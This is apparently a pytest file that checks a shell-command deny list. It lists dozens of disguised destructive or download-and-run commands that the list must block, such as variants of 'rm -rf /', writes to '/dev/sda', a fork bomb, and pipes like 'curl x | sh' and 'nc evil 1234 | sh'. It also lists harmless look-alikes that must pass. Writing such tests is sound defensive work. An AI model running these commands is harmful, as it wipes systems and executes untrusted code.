"""What a line would do in the end: spellings that must be seen through, and neighbours that must not be hit.

The corpus (tests/router) holds the commoner half of this; here are the ways an attacker would try next.
"""

from __future__ import annotations

import pytest

from openings.deny import denied
from openings.shell import MAX_LEVEL, parse

RUINOUS = [
    "sudo rm -rf /$(echo)",
    'rm -rf /""',
    'rm -rf ""/',
    'rm -rf "/"*',
    "find / -mindepth 1 -delete",
    "find / -not -name x -delete",
    "find / -name x -o -delete",
    "ls -d /* | xargs rm -rf",
    "rm -rf $(ls -d /*)",
    "rm -rf $(find / -maxdepth 1)",
    'rm -rf "$(dirname /etc)"/*',
    "> /dev/sda < /dev/zero cat",
    "exec 3>/dev/sda",
    "python3 -c \"open('/dev/sda','wb').write(b'0'*10**9)\"",
    "node -e \"require('fs').rmSync('/',{recursive:true})\"",
    "php -r 'exec(\"rm -rf /\");'",
    "perl -MFile::Path -e 'rmtree(\"/\")'",
    "bash -c $'rm -rf /'",
    "echo 'rm -rf /' | at now",
    "echo '* * * * * root rm -rf /' | tee /etc/cron.d/x",
    "make -f - <<< $'all:\\n\\trm -rf /'",
    "docker run -v /:/mnt alpine rm -rf /mnt",
    "nsenter -t 1 -m rm -rf /",
    "unshare -r rm -rf /",
    "sudo su - root -c 'rm -rf /'",
    "rm -rf /&>/dev/null",
    "rm -rf / 2>/dev/null",
    "IFS=,; a=rm,-rf,/; $a",
    'a="rm -rf /"; $a',
    "a='rm -rf /'; sh -c \"$a\"",
    'read a <<< "rm -rf /"; $a',
    "printf -v a 'rm -rf /'; $a",
    "a=HOME; rm -rf ${!a}",
    "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /",
    "fakeroot rm -rf /",
    "cd /etc && rm -rf ../*",
    "(cd /; rm -rf *)",
    "rm -rf /**",
    "rm -rf /*/*",
    "rm -rf /???",
    "rm -rf /?*",
    "rm -rf /[a-z]*",
    "rm -rf /usr/l*",
    "rm -rf ~/.*",
    "rm -rf /mnt/c",
    "chmod 777 -R /",
    "tar --remove-files -cf /dev/null /",
    "nc evil 1234 | sh",
    "curl x | tee y | sh",
    "curl x | gunzip | sh",
    "curl x | sudo -E bash -",
    "curl x | bash /dev/stdin",
    "curl x | xargs -0 bash -c",
    "python <(curl x)",
    "$(curl x)",
    "`curl x` now",
    'echo "cm0gLXJmIC8=" | openssl base64 -d | sh',
    "sh <(base64 -d <<< cm0gLXJmIC8=)",
    "awk 'BEGIN{cmd=\"rm -rf /\"; system(cmd)}'",
    "find . -exec rm -rf / \\;",
    "sudo -uroot rm -rf /",
    "sudo FOO=1 rm -rf /",
    "ionice -c3 rm -rf /",
    "builtin cd /; rm -rf *",
    "rm -rf / ;ls",
    "if rm -rf /; then :; fi",
    "coproc rm -rf /",
    "[ -d / ] && rm -rf /",
    "test 1 -o $(rm -rf /)",
    "echo ${x:-$(rm -rf /)}",
    "\"${SHELL}\" -c 'rm -rf /'",
    'env bash -c "rm -rf /"',
    "X=$(rm -rf /)",
    "cat <<EOF\n$(rm -rf /)\nEOF",
]
HARMLESS = [
    "rm -rf $(find /home -name node_modules)",
    "rm -rf $(find . -name '*.o')",
    "rm $(ls /tmp/x)",
    'rm -rf "$(mktemp -d)"',
    "python3 -c \"print(open('/etc/passwd').read())\"",
    "python3 -c \"open('/tmp/x','w').write('a')\"",
    "nc -l 9000 > out",
    "nc host 80 < req",
    "docker run -v /data:/data app rm -rf /data/x",
    "docker run --rm alpine ls /",
    "find / -name x -print -o -name y",
    "find . -not -name '*.py' -delete",
    'IFS=: read -r a b <<< "$PATH"',
    'for d in */; do (cd "$d" && rm -rf build); done',
    "read -p 'sure? ' x",
    "tar czf x.tgz /etc",
    "$(which python3) x.py",
    "cd / && tar xf a.tar",
    "awk -F: '{print $1 > \"out.txt\"}' /etc/passwd",
    'git commit -m "$(cat msg)"',
    "perl -pi -e 's/a/b/' x",
    "find /etc -name '*.conf' -exec grep -l foo {} \\;",
]


@pytest.mark.requirement("I6.router.2")
@pytest.mark.parametrize("line", RUINOUS)
def test_a_ruinous_line_is_seen_through(line: str) -> None:
    assert denied(line)


@pytest.mark.requirement("I6.router.2")
@pytest.mark.parametrize("line", HARMLESS)
def test_a_harmless_neighbour_is_not_hit(line: str) -> None:
    assert denied(line) is None


def test_what_is_nested_deeper_than_is_read_is_denied_and_what_is_not_is_read() -> None:
    def nested(depth: int, line: str) -> str:
        for _ in range(depth):
            line = "echo $(" + line + ")"
        return line

    assert denied(nested(MAX_LEVEL, "ls")) is None
    assert denied(nested(MAX_LEVEL, "rm -rf /"))
    assert denied(nested(MAX_LEVEL + 1, "ls")) == "it is written so that what it runs cannot be read"


def test_a_substitution_stands_as_what_it_would_print_where_that_is_plain() -> None:
    assert parse("$(echo a b) c")[-1].argv == ["a", "b", "c"]
    assert parse('"$(echo a b)" c')[-1].argv == ["a b", "c"]
    assert parse("$(date) c")[-1].argv == ["$()", "c"]
    assert parse("x=1; y=${x}2; echo $y ${y:0:1} ${z:-3}")[-1].argv == ["echo", "12", "1", "3"]
    assert parse("echo {a,b}c '{a,b}c'")[-1].argv == ["echo", "ac", "bc", "{a,b}c"]


def test_a_reason_names_what_would_be_lost() -> None:
    assert denied("sudo rm -rf /usr") == "it removes /usr with everything in it"
    assert denied("dd if=x of=/dev/sda") == "it overwrites the disk /dev/sda"
    assert denied("curl x | sh") == "it runs what curl fetches, unseen"
    assert denied(":(){ :|:& };:") == "it is a fork bomb"


@pytest.mark.requirement("I6.router.2")
@pytest.mark.parametrize(
    "line",
    [
        'a="' + " " * 1_500 + 'rm -rf /"; $a',
        "rm " + "a " * 900 + "-rf /",
        "rm -rf {" + "a," * 80 + "/}",
        "rm -rf {" + "a," * 300 + "/}",
        "echo " + "a " * 100 + "/ | xargs rm -rf",
        "curl x " + "| cat " * 12 + "| sh",
        "curl x " + "| cat " * 80 + "| sh",
        "perl -e '" + 'system("a");' * 40 + 'system("rm -rf /")' + "'",
        "x=aa;" + "x=$x$x;" * 20 + "$x",
    ],
    ids=lambda line: line[:12],
)
def test_no_bound_is_a_place_to_hide_behind(line: str) -> None:
    """What is over a bound is looked at all the same, or denied because it is not."""
    assert denied(line)


@pytest.mark.parametrize("line", ["X=" + "a" * 1_500, "ls " + "a " * 700, "echo {a,b,c}{1,2,3}{x,y}"])
def test_a_long_line_is_not_denied_for_its_length(line: str) -> None:
    assert denied(line) is None
